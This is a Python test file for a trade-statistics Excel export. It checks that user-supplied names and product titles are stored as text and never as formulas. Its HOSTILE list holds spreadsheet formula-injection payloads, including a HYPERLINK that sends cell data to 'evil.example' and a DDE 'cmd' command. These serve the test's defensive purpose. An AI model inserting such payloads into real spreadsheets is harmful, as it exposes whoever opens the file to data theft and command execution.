"""The statistics workbook writes what users typed (names, SKUs, titles) as text, never as a formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from chuhai.stats.xlsx import workbook_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def _row(**values) -> dict:
    return {"value": 10.0, "previous": 5.0, "yoy_growth": 1.0, "units": 3, "lines": 2, **values}


def _data() -> dict:
    products = [{"sku": text, "title_zh": text, "title_en": text, "enterprise_zh": text, "enterprise_en": text,
                 "value": 10.0, "units": 3, "yoy_growth": 0.5} for text in HOSTILE]
    return {
        "period": {"from": "2025-11", "to": "2026-10", "comparable": True},
        "totals": {"value": 10.0, "previous": 5.0, "yoy_growth": 1.0, "units": 3, "lines": 2,
                   "active_enterprises": 1, "markets": 1},
        "belt": [_row(name={"name_zh": text, "name_en": text}) for text in HOSTILE],
        "market": [_row(key="US")], "market_group": [], "channel": [_row(key="amazon")],
        "customs_mode": [_row(key="9610")], "products": products,
        "monthly": [{"month": "2026-10", "value": 10.0, "year_before": None}],
    }


def test_values_users_control_are_text_not_formulas():
    book = load_workbook(io.BytesIO(workbook_bytes(_data())))
    for name in (book.sheetnames[1], book.sheetnames[6]):  # belts, top products
        cells = [cell for row in book[name].iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
        assert cells
        for cell in cells:
            assert cell.data_type == "s", (name, cell.coordinate, cell.value)
            assert cell.quotePrefix or not cell.value.startswith(("=", "+", "-", "@"))
        texts = {cell.value for cell in cells}
        assert {text.replace("\r", "\n") for text in HOSTILE} <= texts  # as typed (XML reads a CR as LF)
    numbers = [row[3] for row in book[book.sheetnames[6]].iter_rows(min_row=2, values_only=True)]
    assert numbers == [10.0] * len(HOSTILE)  # figures stay numbers
